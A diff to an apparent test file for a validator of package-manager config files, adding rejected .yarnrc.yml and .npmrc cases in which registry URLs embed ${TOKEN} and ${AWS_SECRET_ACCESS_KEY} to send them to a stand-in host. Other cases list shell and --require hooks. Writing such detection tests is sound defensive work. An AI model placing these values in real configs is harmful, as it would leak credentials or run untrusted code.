@@ -44,6 +44,8 @@ test.for<[path: string, text: string]>([
     "globalFolder: /home/me",
     "cacheFolder: ../..",
     "unsafeHttpWhitelist:\n  - x",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: yarn would send the variable to that registry
+    'npmRegistryServer: "https://r.example.invalid/${TOKEN}"',
   ].map((text): [string, string] => [".yarnrc.yml", text]),
   ...['--modules-folder ".."', "--install.cwd ..", "cache-folder ../..", 'global-folder "/home/me"', "--use-yarnrc x"].map(
     (text): [string, string] => [".yarnrc", text],
@@ -68,6 +70,8 @@ test.for<[path: string, text: string]>([
     "modules-dir=../..",
     // biome-ignore lint/suspicious/noTemplateCurlyInString: npm reads variables in names of settings
     "${HOME}=true",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: npm would send the variable to that registry
+    "registry=https://r.example.invalid/${AWS_SECRET_ACCESS_KEY}",
     "script-shell=./x",
     "node-options=--require ./x.js",
   ].map((text): [string, string] => [".npmrc", text]),
@@ -86,7 +90,7 @@ test.for<[path: string, text: string]>([
 test.for<[path: string, text: string]>([
   [
     ".npmrc",
-    "; ours\nregistry=https://r.example.invalid/\n@me:registry = https://r\n//r/:_authToken=${TOKEN}\nlegacy-peer-deps=true\r\nengine-strict = true\n# x\nsave-exact=true\ninstall-links=true\nforce=true\n",
+    "; ours\nregistry=https://r.example.invalid/\n@me:registry = https://r\n//r/:_authToken=abc\nlegacy-peer-deps=true\r\nengine-strict = true\n# x\nsave-exact=true\ninstall-links=true\nforce=true\n",
   ],
   [".yarnrc", '# ours\nregistry "https://r.example.invalid"\nyarn-path ".yarn/releases/yarn-1.cjs"\nnetwork-timeout 60000\n'],
   [
